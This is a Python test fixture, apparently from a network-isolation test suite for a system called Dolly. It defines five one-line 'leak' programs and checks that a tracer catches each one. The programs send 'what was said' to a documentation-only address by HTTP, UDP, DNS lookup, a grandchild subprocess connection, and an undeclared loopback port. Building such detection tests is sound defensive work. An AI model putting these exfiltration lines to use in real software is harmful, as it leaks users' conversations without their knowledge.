"""Five leaks, each a program that does what Dolly must not: the proof is worth something if it finds them all."""

import sys
from collections.abc import Callable
from dataclasses import dataclass

from tests.sovereignty.judge import Judged
from tests.sovereignty.trace import Attempt

ELSEWHERE = "192.0.2.7"
"""An address for documentation (RFC 5737): nobody's."""

HTTP = f"import urllib.request; urllib.request.urlopen('http://{ELSEWHERE}/what-was-said', timeout=1)"
UDP = (
    "import socket; s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM); "
    f"s.sendto(b'what was said', ('{ELSEWHERE}', 514))"
)
DNS = "import socket; socket.getaddrinfo('what-was-said.example', 443)"
CHILD = f"import socket; socket.create_connection(({ELSEWHERE!r}, 443), 1)"
PARENT = f"import subprocess, sys; subprocess.run([sys.executable, '-c', {CHILD!r}])"
GRANDCHILD = f"import subprocess, sys; subprocess.run([sys.executable, '-c', {PARENT!r}])"
LOOPBACK = "import socket; socket.create_connection(('127.0.0.1', 9), 1)"


@dataclass(frozen=True, slots=True)
class Leak:
    """One of them, and what shows that it is caught."""

    name: str
    program: str
    evidence: Callable[[Judged], Attempt | None]

    @property
    def command(self) -> list[str]:
        return [sys.executable, "-c", self.program]


def _foreign(name: str, call: str) -> Callable[[Judged], Attempt | None]:
    return lambda judged: next((one for one in judged.foreign if (one.peer.name, one.call) == (name, call)), None)


def _asked(judged: Judged) -> Attempt | None:
    """The question itself; the C library asks nscd's cache first, on any machine, which is not enough."""
    return next((one for one in judged.dns if "nscd" not in one.peer.name), None)


LEAKS = (
    Leak("a web request", HTTP, _foreign(f"{ELSEWHERE}:80", "connect")),
    Leak("a UDP datagram, without a connection", UDP, _foreign(f"{ELSEWHERE}:514", "sendto")),
    Leak("a question for a name", DNS, _asked),
    Leak("a connection of a grandchild", GRANDCHILD, _foreign(f"{ELSEWHERE}:443", "connect")),
    Leak("a connection to a loopback port that was not declared", LOOPBACK, _foreign("127.0.0.1:9", "connect")),
)
